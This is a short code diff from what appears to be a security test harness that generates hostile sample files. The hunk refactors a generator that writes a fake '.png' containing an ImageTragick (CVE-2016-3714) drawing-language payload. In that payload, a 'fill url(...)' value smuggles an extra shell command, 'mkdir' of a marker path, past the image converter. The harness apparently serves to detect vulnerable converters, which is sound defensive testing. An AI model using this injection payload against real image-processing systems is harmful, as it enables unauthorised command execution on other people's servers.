@@ -175,8 +175,8 @@ def postscript(path: Path, trap: Trap) -> None:
 
 @hostile(".png", "a drawing language that fetches and runs", cve="CVE-2016-3714")
 def drawing_language(path: Path, trap: Trap) -> None:
-    words = f"push graphic-context\nfill 'url({trap.url}\";mkdir \"{trap.marker})'\npop graphic-context\n"
-    path.write_bytes(words.encode())
+    fill = f"fill 'url({trap.url}\";mkdir \"{trap.marker})'"
+    path.write_bytes(f"push graphic-context\n{fill}\npop graphic-context\n".encode())
 
 
 def _svg(trap: Trap) -> bytes:
